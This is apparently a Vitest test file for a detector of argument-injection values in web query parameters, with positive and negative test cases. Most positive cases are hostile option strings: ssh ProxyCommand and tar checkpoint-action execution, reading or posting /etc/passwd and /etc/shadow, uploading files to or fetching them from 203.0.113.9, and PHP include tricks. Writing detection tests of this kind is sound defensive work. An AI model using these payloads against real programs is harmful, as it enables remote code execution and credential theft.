import { expect, test } from 'vitest';
import { readingOf } from '../../../../src/attacks/readings/reading.ts';
import { argumentInjection } from '../../../../src/attacks/shell/values/argument-injection.ts';

const read = (text: string) => readingOf({ location: 'query.q', kind: 'query', part: 'value', text }, text, []);

test.each([
  '-oProxyCommand=touch /tmp/x',
  '--upload-pack=id',
  '--use-compress-program=sh',
  '--checkpoint-action=exec=sh x.sh',
  'ext::sh -c id',
  "'-exec cat {} ;",
  '-d @/etc/passwd',
  '-O /var/www/html/s.php http://203.0.113.9/s',
  '--askpass=/tmp/x',
  '--preload /tmp/x.so',
  '--pager-command=whoami',
  '--verbose --checkpoint-action=exec=sh',
  '. -exec cat {} +',
  '-d auto_prepend_file=php://input',
  '\xadd cgi.force_redirect=0 \xadd allow_url_include=1',
  '-q -F file=@/etc/passwd http://203.0.113.9/',
  '-q --no-check -O /tmp/a http://203.0.113.9/a',
  '-v --output=/var/www/a',
  '-e id',
  '-F/tmp/x',
  '--config=core.sshCommand=id',
  '--script=/tmp/x.nse',
  '-fprintf /srv/x y',
  '.shell id',
  '.import /etc/hosts t',
  'allow_url_include=1',
  'ann@example.org -X/var/www/html/x.php',
  '-froot@localhost -OQueueDirectory=/tmp -X/var/www/html/x.php',
  'ssh://-oProxyCommand=id/x',
  'git+ssh://ann@-x/y',
  'git@-oProxyCommand=id:x',
  'ann@example.org:-oProxyCommand=id',
  'example.org -oProxyCommand=id',
  '-u touch /tmp/x',
  "-c 'uname -a'",
  '-lc "wget http://203.0.113.9/a"',
  "-c 'expr 81 + 17'",
  '--no-sandbox --gpu-launcher=id',
])('an option that runs, reads or writes is found: %s', (value) => {
  expect(argumentInjection(read(value))).not.toBeNull();
});

test.each([
  '-5',
  '- item',
  '- path: /home/ann/.ssh/id_rsa',
  '--',
  '-o json',
  '--output=report.txt',
  '-d',
  '--help me',
  'e-mail',
  '-c',
  '--config=app.json',
  '--command',
  '--script=build',
  '--exec-timeout=30',
  '--shell=zsh-theme',
  '-p /usr/share/doc',
  '-f date.txt',
  '.shell',
  '.open file.db',
  'tar -o /var/www/html/x.php',
  'ssh://git@example.org/-x',
  'https://-.example.org/',
  'git@example.org:a/b-c.git',
  'see ann@-example',
  'ssh -oProxyCommand=id example.org',
  'example.org -oPort=22',
  '-u ann touch',
  "-c 'select 1'",
  "-c 'name of it'",
  '-c "npm run build"',
  "-m 'uname of ann'",
  '-m fixes the sort of names',
])('another value with a dash is none: %s', (value) => {
  expect(argumentInjection(read(value))).toBeNull();
});

const handed = (text: string) => readingOf({ location: 'query.u', kind: 'query', part: 'value', text }, text, []);

test.each([
  'http://example.com/ --post-file=/etc/passwd',
  'http://example.com/ -q -O /tmp/x',
  '192.0.2.7 -iL /etc/passwd',
  'a.mp4 -vf "movie=/etc/shadow"',
  'origin --upload-pack=id',
])('an option behind what a program is handed is found: %s', (value) => {
  expect(argumentInjection(handed(value))).not.toBeNull();
});

test.each([
  'http://example.com/ --retry 3 -o page.html',
  'notes.txt --out-dir /tmp/x',
  'wget http://example.com/ -O /tmp/x',
  'use --upload-pack=x to set it',
  'main -- src',
])('an ordinary one and the command of a program are not: %s', (value) => {
  expect(argumentInjection(handed(value))).toBeNull();
});
